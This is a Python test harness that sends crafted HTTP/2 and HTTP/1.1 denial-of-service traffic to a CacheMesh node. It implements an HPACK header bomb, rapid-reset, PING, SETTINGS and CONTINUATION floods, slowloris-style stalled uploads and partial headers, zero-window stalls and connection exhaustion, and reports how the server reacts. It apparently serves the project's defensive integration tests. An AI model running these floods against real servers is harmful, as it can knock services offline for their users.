#!/usr/bin/python3
"""Crafted HTTP/2 traffic against a CacheMesh node (python3-h2, Debian's package).

Used by the attack tests in Tests/IntegrationTests; prints one JSON line with what it saw.

  header-bomb: every stream sends one header field (NAME: VALUE-SIZE bytes) COPIES times.
               HPACK indexes it once and then names it with one byte per copy, so a few KB
               on the wire decode to COPIES x VALUE-SIZE bytes at the server.
  zero-window: open STREAMS GETs of PATH with an initial window of 0 and never read: the
               server can send headers but no body; prints how the streams ended after HOLD s.
  idle-connections: open CONNECTIONS TLS+HTTP/2 connections (handshake, preface, SETTINGS) and
               hold them without a request for HOLD s; prints how many the server closed.
  stalled-put: PUT PATH declaring CONTENT-LENGTH bytes, send SEND bytes of them, then hold the
               stream open for HOLD seconds without sending more (or until the server ends it);
               with --trickle N, one more byte every N seconds meanwhile.
  body-flood:  open CONNECTIONS connections with STREAMS PUT streams each (distinct paths, each
               declaring CONTENT-LENGTH bytes) and send body bytes on every stream as fast as flow
               control lets them, never finishing, for HOLD s; prints how many body bytes the
               server let in (what it may hold in memory), and how the streams ended. With
               --rate R, each stream sends at most R bytes a second (slow uploads).
  partial-headers: send a HEADERS frame without END_HEADERS, then nothing (or with --trickle N,
               a 1-byte CONTINUATION every N seconds) for HOLD s; prints when the server closed.
  control-flood: raw frames as fast as the socket takes them, never reading what comes back
               until the end: --kind rapid-reset (HEADERS GET + RST_STREAM CANCEL on a new stream,
               COUNT times), ping (COUNT PINGs), settings (COUNT empty SETTINGS), continuation
               (one HEADERS without END_HEADERS, then COUNT empty CONTINUATION frames); prints how
               many frames went out and how the server ended the connection.
  partial-head-h1: HTTP/1.1 over TLS: send the start of a request head, then (with --trickle N)
               one more header byte every N seconds, never the blank line; prints what came back.
"""
import argparse, json, socket, ssl, sys, time

import h2.config, h2.connection, h2.events, h2.exceptions, h2.settings


def connect(a):
    ctx = ssl.create_default_context(cafile=a.ca)
    ctx.check_hostname = False
    if a.cert:
        ctx.load_cert_chain(a.cert, a.key)
    ctx.set_alpn_protocols(["h2"])
    raw = socket.create_connection((a.host, a.port), timeout=a.timeout)
    s = ctx.wrap_socket(raw, server_hostname="cachemesh")
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8",
                                                                 validate_outbound_headers=False,
                                                                 normalize_outbound_headers=False))
    conn.initiate_connection()
    s.sendall(conn.data_to_send())
    return s, conn


def pump(s, conn, out, until, deadline):
    """Read and record events until until() or the deadline or the connection ends."""
    while not until() and time.time() < deadline:
        try:
            data = s.recv(65536)
        except socket.timeout:
            continue
        except (ConnectionError, ssl.SSLError, OSError) as e:
            out["closed"] = f"{type(e).__name__}: {e}"
            return
        if not data:
            out["closed"] = "eof"
            return
        try:
            events = conn.receive_data(data)
        except h2.exceptions.ProtocolError as e:
            out["closed"] = f"protocol error: {e}"
            return
        for e in events:
            if isinstance(e, h2.events.ResponseReceived):
                out["status"][str(e.stream_id)] = int(dict(e.headers)[":status"])
            elif isinstance(e, h2.events.StreamReset):
                out["reset"][str(e.stream_id)] = int(e.error_code)
            elif isinstance(e, h2.events.ConnectionTerminated):
                out["goaway"] = int(e.error_code)
            elif isinstance(e, h2.events.DataReceived):
                conn.acknowledge_received_data(e.flow_controlled_length, e.stream_id)
        pending = conn.data_to_send()
        if pending:
            s.sendall(pending)


def header_bomb(a):
    out = {"status": {}, "reset": {}, "goaway": None, "closed": None, "wire_bytes": 0}
    s, conn = connect(a)
    deadline = time.time() + a.timeout
    pump(s, conn, out, lambda: True, time.time() + 0.2)  # settings
    for i in range(a.streams):
        if out["goaway"] is not None or out["closed"]:
            break
        sid = conn.get_next_available_stream_id()
        headers = [(":method", "GET"), (":scheme", "https"), (":authority", "cachemesh"), (":path", "/cas/" + "0" * 64)]
        headers += [(a.name, "v" * a.value_size)] * a.copies
        conn.send_headers(sid, headers, end_stream=True)
        data = conn.data_to_send()
        out["wire_bytes"] += len(data)
        s.sendall(data)
        pump(s, conn, out, lambda: str(sid) in out["status"] or str(sid) in out["reset"] or out["goaway"] is not None, deadline)
    s.close()
    return out


def stalled_put(a):
    out = {"status": {}, "reset": {}, "goaway": None, "closed": None, "wire_bytes": 0}
    s, conn = connect(a)
    pump(s, conn, out, lambda: True, time.time() + 0.2)
    sid = conn.get_next_available_stream_id()
    conn.send_headers(sid, [(":method", "PUT"), (":scheme", "https"), (":authority", "cachemesh"), (":path", a.path),
                            ("content-length", str(a.content_length))])
    s.sendall(conn.data_to_send())
    sent = 0
    chunk = b"\xa5" * 16384
    deadline = time.time() + a.timeout
    while sent < a.send and time.time() < deadline and not out["closed"]:
        n = min(len(chunk), a.send - sent, conn.local_flow_control_window(sid), conn.max_outbound_frame_size)
        if n <= 0:
            pump(s, conn, out, lambda: conn.local_flow_control_window(sid) > 0 or str(sid) in out["reset"], time.time() + 1)
            continue
        conn.send_data(sid, chunk[:n])
        s.sendall(conn.data_to_send())
        sent += n
    out["sent"] = sent
    print(json.dumps({"event": "sent", "bytes": sent}), flush=True)
    end = time.time() + a.hold
    ended = lambda: str(sid) in out["status"] or str(sid) in out["reset"] or out["closed"] is not None
    if a.trickle > 0:
        # One byte every TRICKLE seconds: often enough to dodge an idle timeout.
        while time.time() < end and not ended():
            pump(s, conn, out, ended, min(end, time.time() + a.trickle))
            if ended() or conn.local_flow_control_window(sid) < 1:
                continue
            try:
                conn.send_data(sid, b"\xa5")
                s.sendall(conn.data_to_send())
                out["sent"] += 1
            except (h2.exceptions.ProtocolError, h2.exceptions.StreamClosedError, OSError, ssl.SSLError):
                break
    pump(s, conn, out, ended, end)
    s.close()
    return out


def zero_window(a):
    out = {"status": {}, "reset": {}, "goaway": None, "closed": None, "wire_bytes": 0}
    s, conn = connect(a)
    conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    s.sendall(conn.data_to_send())
    pump(s, conn, out, lambda: True, time.time() + 0.2)
    ids = []
    for _ in range(a.streams):
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, [(":method", "GET"), (":scheme", "https"), (":authority", "cachemesh"), (":path", a.path)], end_stream=True)
        ids.append(sid)
    s.sendall(conn.data_to_send())
    print(json.dumps({"event": "opened", "streams": len(ids)}), flush=True)
    # Never acknowledge data: the connection window is never re-opened either.
    pump(s, conn, out, lambda: all(str(i) in out["reset"] for i in ids), time.time() + a.hold)
    s.close()
    return out


def idle_connections(a):
    socks, failed = [], 0
    for _ in range(a.connections):
        try:
            s, conn = connect(a)
            socks.append(s)
        except (OSError, ssl.SSLError):
            failed += 1
    print(json.dumps({"event": "opened", "connections": len(socks), "failed": failed}), flush=True)
    time.sleep(a.hold)
    closed = 0
    for s in socks:
        s.setblocking(False)
        try:
            while True:
                data = s.recv(65536)
                if not data:
                    closed += 1
                    break
        except (BlockingIOError, ssl.SSLWantReadError):
            pass
        except (OSError, ssl.SSLError):
            closed += 1
        s.close()
    return {"status": {}, "reset": {}, "goaway": None, "closed": None, "opened": len(socks), "failed": failed, "closed_by_server": closed}


def body_flood(a):
    import selectors
    out = {"status": {}, "reset": {}, "goaway": None, "closed": None, "wire_bytes": 0}
    conns = []
    n = 0
    for c in range(a.connections):
        s, conn = connect(a)
        ids = []
        for _ in range(a.streams):
            sid = conn.get_next_available_stream_id()
            n += 1
            path = "/cas/%064x" % (c * 100003 + n + a.seed)
            conn.send_headers(sid, [(":method", "PUT"), (":scheme", "https"), (":authority", "cachemesh"), (":path", path),
                                    ("content-length", str(a.content_length))])
            ids.append(sid)
        s.sendall(conn.data_to_send())
        s.setblocking(False)
        conns.append({"s": s, "conn": conn, "ids": ids, "sent": {i: 0 for i in ids}, "dead": False})
    print(json.dumps({"event": "opened", "connections": len(conns), "streams": n}), flush=True)
    chunk = b"\xa5" * 16384
    start = time.time()
    end = start + a.hold
    sel = selectors.DefaultSelector()
    for i, c in enumerate(conns):
        sel.register(c["s"], selectors.EVENT_READ, i)
    while time.time() < end:
        progressed = False
        for c in conns:
            if c["dead"]:
                continue
            conn = c["conn"]
            for sid in c["ids"]:
                if str(sid) in out["reset"] or str(sid) in out["status"]:
                    continue
                left = a.content_length - 1 - c["sent"][sid]  # never the last byte
                if a.rate > 0:
                    left = min(left, int(a.rate * (time.time() - start)) - c["sent"][sid])
                try:
                    w = min(conn.local_flow_control_window(sid), conn.max_outbound_frame_size, left, len(chunk))
                except (h2.exceptions.StreamClosedError, KeyError):
                    continue
                if w > 0:
                    conn.send_data(sid, chunk[:w])
                    c["sent"][sid] += w
                    progressed = True
            data = conn.data_to_send()
            if data:
                try:
                    c["s"].setblocking(True)
                    c["s"].sendall(data)
                    c["s"].setblocking(False)
                except (OSError, ssl.SSLError) as e:
                    c["dead"] = True
                    out["closed"] = f"{type(e).__name__}: {e}"
        for key, _ in sel.select(timeout=0 if progressed else 0.2):
            c = conns[key.data]
            try:
                while True:
                    data = c["s"].recv(65536)
                    if not data:
                        c["dead"] = True
                        sel.unregister(c["s"])
                        break
                    for e in c["conn"].receive_data(data):
                        if isinstance(e, h2.events.ResponseReceived):
                            out["status"][str(e.stream_id)] = int(dict(e.headers)[":status"])
                        elif isinstance(e, h2.events.StreamReset):
                            out["reset"][str(e.stream_id)] = int(e.error_code)
                        elif isinstance(e, h2.events.ConnectionTerminated):
                            out["goaway"] = int(e.error_code)
            except (BlockingIOError, ssl.SSLWantReadError):
                pass
            except (OSError, ssl.SSLError, h2.exceptions.ProtocolError) as e:
                c["dead"] = True
                out["closed"] = f"{type(e).__name__}: {e}"
                try:
                    sel.unregister(c["s"])
                except Exception:
                    pass
            pending = c["conn"].data_to_send()
            if pending and not c["dead"]:
                c["s"].setblocking(True)
                c["s"].sendall(pending)
                c["s"].setblocking(False)
    out["sent"] = sum(sum(c["sent"].values()) for c in conns)
    out["per_connection_max"] = max(sum(c["sent"].values()) for c in conns)
    out["largest_streams"] = sorted((v for c in conns for v in c["sent"].values()), reverse=True)[:4]
    for c in conns:
        c["s"].close()
    return out


def partial_headers(a):
    """HEADERS without END_HEADERS, then silence or a CONTINUATION trickle (raw frames)."""
    import struct
    out = {"status": {}, "reset": {}, "goaway": None, "closed": None, "wire_bytes": 0}
    s, conn = connect(a)
    pump(s, conn, out, lambda: True, time.time() + 0.3)
    # ':method: GET' (static index 2) ':scheme: https' (7), ':path' literal follows in the CONTINUATION trickle.
    block = bytes([0x82, 0x87])
    frame = struct.pack(">I", len(block))[1:] + bytes([0x1, 0x1]) + struct.pack(">I", 1) + block  # HEADERS, END_STREAM only
    s.sendall(frame)
    start = time.time()
    end = start + a.hold
    s.settimeout(0.5)
    while time.time() < end:
        try:
            data = s.recv(65536)
            if not data:
                out["closed"] = "eof"
                break
            # GOAWAY: frame type 7; the error code is the payload's second word.
            i = 0
            while i + 9 <= len(data):
                length = int.from_bytes(data[i:i + 3], "big")
                if data[i + 3] == 7 and i + 9 + 8 <= len(data):
                    out["goaway"] = int.from_bytes(data[i + 13:i + 17], "big")
                i += 9 + length
        except socket.timeout:
            pass
        except (OSError, ssl.SSLError) as e:
            out["closed"] = f"{type(e).__name__}: {e}"
            break
        if a.trickle > 0 and time.time() - start > a.trickle * (out["wire_bytes"] + 1):
            try:
                s.sendall(struct.pack(">I", 1)[1:] + bytes([0x9, 0x0]) + struct.pack(">I", 1) + bytes([0x40 if out["wire_bytes"] == 0 else 0x61]))
                out["wire_bytes"] += 1
            except (OSError, ssl.SSLError) as e:
                out["closed"] = f"{type(e).__name__}: {e}"
                break
    out["after"] = round(time.time() - start, 2)
    s.close()
    return out


def partial_head_h1(a):
    out = {"status": {}, "reset": {}, "goaway": None, "closed": None, "wire_bytes": 0}
    ctx = ssl.create_default_context(cafile=a.ca)
    ctx.check_hostname = False
    if a.cert:
        ctx.load_cert_chain(a.cert, a.key)
    ctx.set_alpn_protocols(["http/1.1"])
    s = ctx.wrap_socket(socket.create_connection((a.host, a.port), timeout=a.timeout), server_hostname="cachemesh")
    s.sendall(b"GET " + a.path.encode() + b" HTTP/1.1\r\nHost: cachemesh\r\nX-Slow: ")
    start = time.time()
    end = start + a.hold
    s.settimeout(0.5)
    got = b""
    while time.time() < end:
        try:
            data = s.recv(65536)
            if not data:
                out["closed"] = "eof"
                break
            got += data
        except socket.timeout:
            pass
        except (OSError, ssl.SSLError) as e:
            out["closed"] = f"{type(e).__name__}: {e}"
            break
        if a.trickle > 0 and time.time() - start > a.trickle * (out["wire_bytes"] + 1):
            try:
                s.sendall(b"a")
                out["wire_bytes"] += 1
            except (OSError, ssl.SSLError) as e:
                out["closed"] = f"{type(e).__name__}: {e}"
                break
    if got.startswith(b"HTTP/1.1 "):
        out["status"]["1"] = int(got[9:12])
    out["after"] = round(time.time() - start, 2)
    s.close()
    return out


def control_flood(a):
    import struct

    def frame(kind, flags, sid, payload=b""):
        return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", sid) + payload

    out = {"status": {}, "reset": {}, "goaway": None, "closed": None, "wire_bytes": 0, "sent": 0}
    s, conn = connect(a)
    pump(s, conn, out, lambda: True, time.time() + 0.3)
    s.settimeout(a.timeout)
    # ':method: GET' (2) ':scheme: https' (7) ':path: /' (4) ':authority' literal (index 1).
    block = bytes([0x82, 0x87, 0x84, 0x41, 0x09]) + b"cachemesh"
    batch = []
    start = time.time()
    sid = 1
    if a.kind == "continuation":
        batch.append(frame(0x1, 0x1, 1, block))
    for i in range(a.count):
        if a.kind == "rapid-reset":
            batch.append(frame(0x1, 0x5, sid, block))
            batch.append(frame(0x3, 0x0, sid, struct.pack(">I", 8)))
            sid += 2
        elif a.kind == "ping":
            batch.append(frame(0x6, 0x0, 0, struct.pack(">Q", i)))
        elif a.kind == "settings":
            batch.append(frame(0x4, 0x0, 0))
        elif a.kind == "continuation":
            batch.append(frame(0x9, 0x0, 1))
        if len(batch) >= 256 or i == a.count - 1:
            try:
                s.sendall(b"".join(batch))
            except socket.timeout:
                out["stalled"] = True  # the server stopped reading but kept the connection
                break
            except (OSError, ssl.SSLError) as e:
                out["closed"] = f"{type(e).__name__}: {e}"
                break
            out["sent"] = i + 1
            batch = []
    out["after"] = round(time.time() - start, 2)
    # What came back: GOAWAY's error code, then EOF.
    s.settimeout(2)
    buf = b""
    try:
        while len(buf) < 64 << 20:
            data = s.recv(1 << 20)
            if not data:
                out["closed"] = out["closed"] or "eof"
                break
            buf += data
    except socket.timeout:
        pass  # still open
    except (OSError, ssl.SSLError) as e:
        out["closed"] = out["closed"] or f"{type(e).__name__}: {e}"
    i = 0
    while i + 9 <= len(buf):
        length = int.from_bytes(buf[i:i + 3], "big")
        if buf[i + 3] == 7 and i + 17 <= len(buf):
            out["goaway"] = int.from_bytes(buf[i + 13:i + 17], "big")
        i += 9 + length
    out["wire_bytes"] = len(buf)
    s.close()
    return out


def main():
    p = argparse.ArgumentParser()
    p.add_argument("attack", choices=["header-bomb", "stalled-put", "zero-window", "idle-connections", "body-flood", "partial-headers", "partial-head-h1", "control-flood"])
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--ca", required=True)
    p.add_argument("--cert")
    p.add_argument("--key")
    p.add_argument("--streams", type=int, default=3)
    p.add_argument("--copies", type=int, default=30000)
    p.add_argument("--value-size", type=int, default=4000)
    p.add_argument("--name", default="x-bomb")
    p.add_argument("--timeout", type=float, default=30)
    p.add_argument("--path", default="/cas/" + "0" * 64)
    p.add_argument("--content-length", type=int, default=60 << 20)
    p.add_argument("--send", type=int, default=1 << 20)
    p.add_argument("--hold", type=float, default=10)
    p.add_argument("--trickle", type=float, default=0, help="stalled-put: then one byte every N seconds")
    p.add_argument("--connections", type=int, default=100)
    p.add_argument("--rate", type=float, default=0, help="body-flood: bytes a second per stream at most (0: no limit)")
    p.add_argument("--kind", default="rapid-reset", choices=["rapid-reset", "ping", "settings", "continuation"])
    p.add_argument("--count", type=int, default=10000)
    p.add_argument("--seed", type=int, default=0, help="body-flood: offsets the streams' paths")
    a = p.parse_args()
    out = {"header-bomb": header_bomb, "stalled-put": stalled_put, "zero-window": zero_window, "idle-connections": idle_connections,
           "body-flood": body_flood, "partial-headers": partial_headers, "partial-head-h1": partial_head_h1, "control-flood": control_flood}[a.attack](a)
    print(json.dumps(out))


if __name__ == "__main__":
    main()
